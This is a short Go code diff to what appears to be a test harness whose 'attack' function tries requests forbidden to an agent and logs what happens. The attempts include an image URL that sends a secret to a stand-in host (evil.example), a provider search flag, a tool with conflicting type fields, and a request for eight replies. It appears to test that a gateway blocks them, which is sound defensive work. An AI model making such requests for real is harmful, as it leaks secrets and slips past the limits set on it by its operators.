@@ -11,6 +11,8 @@ import (
 	"strings"
 	"sync"
 	"time"
+
+	"cookoff/internal/oneline"
 )
 
 // attack tries what no agent may, and gives a line for each attempt with what came of it.
@@ -18,7 +20,9 @@ func (a *agent) attack() string {
 	var told strings.Builder
 	for _, try := range []struct{ name, body, header string }{
 		{"an address in content",
-			`{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}]}`, ""},
+			oneline.Of(`{"model":"m","messages":[
+				{"role":"user","content":[
+					{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}]}`), ""},
 		{"a search by the provider", `{"model":"m","messages":[],"Enable_Search":true}`, ""},
 		{"a tool with two types", `{"model":"m","messages":[],"tools":[{"type":"web_search","Type":"function"}]}`, ""},
 		{"eight replies", `{"model":"m","messages":[],"n":"8"}`, ""},
